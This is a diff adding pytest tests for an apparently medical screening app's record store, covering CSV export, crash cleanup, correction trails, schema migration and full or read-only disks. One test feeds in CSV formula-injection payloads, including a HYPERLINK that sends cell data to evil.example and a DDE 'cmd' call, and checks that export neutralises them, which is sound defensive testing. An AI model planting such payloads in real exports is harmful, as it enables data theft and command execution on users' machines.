@@ -75,7 +75,7 @@ def test_csv_export(tmp_path: Path) -> None:
     store = RecordStore(tmp_path / "rec")
     recs = [_add(store, i) for i in range(3)]
     out = store.export_csv(tmp_path / "visits.csv")
-    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
     assert tuple(rows[0]) == CSV_COLUMNS
     assert {r["visit_id"] for r in rows} == {r.visit_id for r in recs}
     ungradable = next(r for r in rows if r["verdict"] == "ungradable")
@@ -186,3 +186,160 @@ def test_sigkill_mid_transaction_keeps_db_consistent(tmp_path: Path) -> None:
     # the store still takes new visits after the crash
     _add(store, 9)
     assert store.count() == 6
+
+
+def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
+    """A patient ID or operator that a spreadsheet would run as a formula is written as text."""
+    store = RecordStore(tmp_path / "rec")
+    evil = ['=HYPERLINK("http://evil.example/?"&A1, "open")', "+1+2", "-2+3", "@SUM(A1:A9)"]
+    for i, pid in enumerate(evil):
+        _add(store, i, patient_id=pid, operator="=cmd|' /C calc'!A0")
+    _add(store, 7, patient_id="P-TAB", operator="\t=1+1")       # patient IDs are stripped; operators are not
+    _add(store, 8, patient_id="P-CR", operator="\r=1+1")
+    _add(store, 9, patient_id="P-0009")
+    out = store.export_csv(tmp_path / "visits.csv")
+    rows = {r["patient_id"]: r for r in csv.DictReader(out.open(encoding="utf-8-sig", newline=""))}
+    for pid in evil:
+        assert "'" + pid in rows, pid                       # apostrophe first: plain text in a spreadsheet
+        assert rows["'" + pid]["operator"].startswith("'=")
+    assert rows["P-TAB"]["operator"] == "'\t=1+1" and rows["P-CR"]["operator"] == "'\r=1+1"
+    assert "P-0009" in rows                                   # ordinary values unchanged
+    for r in rows.values():
+        for v in r.values():
+            assert not v.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert {r["probability"] for r in rows.values()} >= {"0.01"}   # numbers stay numbers
+
+
+def test_orphan_temp_files_removed_at_start(tmp_path: Path) -> None:
+    root = tmp_path / "rec"
+    store = RecordStore(root)
+    rec = _add(store, 1)
+    store.close()
+    shard = store.image_path(rec).parent
+    old = shard / ".tmp-crashed.jpg"
+    old.write_bytes(b"half a photo")
+    os.utime(old, (1_000_000_000, 1_000_000_000))            # left by a crash long ago
+    fresh = shard / ".tmp-being-written.jpg"
+    fresh.write_bytes(b"in progress")                          # another writer, right now: left alone
+    again = RecordStore(root)
+    assert again.removed_temp_files == 1
+    assert not old.exists() and fresh.exists()
+    assert again.image_path(rec).read_bytes() == b"image-1" * 100   # real images untouched
+
+
+def test_corrections_keep_a_trail(tmp_path: Path) -> None:
+    store = RecordStore(tmp_path / "rec")
+    rec = _add(store, 1, eye="OD", operator="", session_id="visit-1")
+    fixed = store.correct(rec.visit_id, "eye", "OS", by="Asha")
+    fixed = store.correct(rec.visit_id, "operator", "Asha", by="Asha")
+    assert (fixed.eye, fixed.operator) == ("OS", "Asha")
+    trail = store.corrections(rec.visit_id)
+    assert [(c.field, c.old, c.new, c.by) for c in trail] == [("eye", "OD", "OS", "Asha"), ("operator", "", "Asha", "Asha")]
+    with pytest.raises(UsageError):
+        store.correct(rec.visit_id, "patient_id", "someone else")
+    with pytest.raises(UsageError):
+        store.correct(rec.visit_id, "eye", "left")
+    # the trail survives reopening, and the visit groups its records
+    other = _add(store, 2, session_id="visit-1")
+    store.close()
+    again = RecordStore(tmp_path / "rec")
+    assert len(again.corrections(rec.visit_id)) == 2
+    assert {r.visit_id for r in again.session(again.get(rec.visit_id))} == {rec.visit_id, other.visit_id}
+
+
+def test_no_id_needs_the_flag(tmp_path: Path) -> None:
+    store = RecordStore(tmp_path / "rec")
+    with pytest.raises(UsageError, match="Patient ID"):
+        _add(store, 1, patient_id="")
+    rec = _add(store, 1, patient_id="", no_id=True)
+    assert store.get(rec.visit_id).no_id is True and store.get(rec.visit_id).patient_id == ""
+
+
+_V1_SCHEMA = """
+CREATE TABLE visits (visit_id TEXT PRIMARY KEY, patient_id TEXT NOT NULL, eye TEXT NOT NULL CHECK (eye IN ('OD', 'OS')),
+    time_utc TEXT NOT NULL, image_sha256 TEXT NOT NULL, image_ext TEXT NOT NULL, heatmap_sha256 TEXT,
+    verdict TEXT NOT NULL CHECK (verdict IN ('abnormal', 'normal', 'ungradable')), probability REAL, threshold REAL,
+    quality_reasons TEXT NOT NULL DEFAULT '', bundle_id TEXT NOT NULL, bundle_version TEXT NOT NULL,
+    backend TEXT NOT NULL, operator TEXT NOT NULL DEFAULT '', source TEXT NOT NULL DEFAULT '');
+PRAGMA user_version=1;
+"""
+
+
+def test_schema_1_store_is_migrated(tmp_path: Path) -> None:
+    import sqlite3
+
+    root = tmp_path / "rec"
+    (root / "images").mkdir(parents=True)
+    conn = sqlite3.connect(root / "records.sqlite3")
+    conn.executescript(_V1_SCHEMA)
+    conn.execute("INSERT INTO visits VALUES ('v1', 'P-OLD', 'OD', '2025-01-01T10:00:00+00:00', 'ab', '.jpg', NULL, "
+                 "'normal', 0.1, 0.3, '', 'b@1:x', '1', 'onnxruntime', 'op', 'file')")
+    conn.commit()
+    conn.close()
+    store = RecordStore(root)
+    old = store.get("v1")
+    assert (old.patient_id, old.session_id, old.no_id) == ("P-OLD", "", False)
+    assert store.session(old) == [old]
+    new = _add(store, 2, session_id="s")
+    assert store.count() == 2 and store.get(new.visit_id).session_id == "s"
+    assert store._conn.execute("PRAGMA user_version").fetchone()[0] == 2
+
+
+_MEDIA_CHILD = textwrap.dedent("""
+    import json, os, subprocess, sys
+    mnt = sys.argv[1]
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", mnt], check=True)
+    from edge_screen.gui.records import RecordStore, StoreError
+    root = os.path.join(mnt, "rec")
+    def add(store, i, size=1000):
+        return store.add_visit(patient_id=f"P{i}", eye="OD", image=os.urandom(size), image_ext=".jpg",
+                               verdict="normal", probability=0.1, threshold=0.3, bundle_id="b", bundle_version="1",
+                               backend="onnxruntime")
+    store = RecordStore(root)
+    for i in range(3):
+        add(store, i)
+    store.close()
+    out = {}
+    with open(os.path.join(mnt, "filler"), "wb") as fh:       # fill the disk
+        try:
+            while True:
+                fh.write(b"\\0" * 65536)
+                fh.flush()
+        except OSError:
+            pass
+    full = RecordStore(root)
+    out["full"] = {"read_only": full.read_only, "history": len(full.search())}
+    try:
+        add(full, 9, size=200_000)
+    except StoreError as exc:
+        out["full"]["save"] = exc.reason
+    full.close()
+    os.remove(os.path.join(mnt, "filler"))
+    subprocess.run(["mount", "-o", "remount,ro", mnt], check=True)   # a read-only medium
+    ro = RecordStore(root)
+    out["ro"] = {"read_only": ro.read_only, "history": len(ro.search()), "why": ro.read_only_reason.reason}
+    try:
+        add(ro, 10)
+    except StoreError as exc:
+        out["ro"]["save"] = exc.reason
+    print(json.dumps(out))
+""")
+
+
+def test_full_disk_and_read_only_medium_still_show_history(tmp_path: Path) -> None:
+    """On a real full tmpfs and a real read-only remount (in a private mount namespace)."""
+    import json
+    import shutil
+
+    if shutil.which("unshare") is None or subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode:
+        pytest.skip("needs 'unshare -rm' (user + mount namespaces) to mount a small tmpfs without privileges")
+    mnt = tmp_path / "mnt"
+    mnt.mkdir()
+    res = subprocess.run(["unshare", "-rm", sys.executable, "-c", _MEDIA_CHILD, str(mnt)], capture_output=True,
+                         text=True, timeout=120)
+    if res.returncode and "mount" in res.stderr and "permission" in res.stderr.lower():
+        pytest.skip(f"mounting a tmpfs is not allowed here: {res.stderr.strip().splitlines()[-1]}")
+    assert res.returncode == 0, res.stderr
+    out = json.loads(res.stdout.strip().splitlines()[-1])
+    assert out["full"]["history"] == 3 and out["full"]["save"] == "disk_full"
+    assert out["ro"] == {"read_only": True, "history": 3, "why": "read_only", "save": "read_only"}
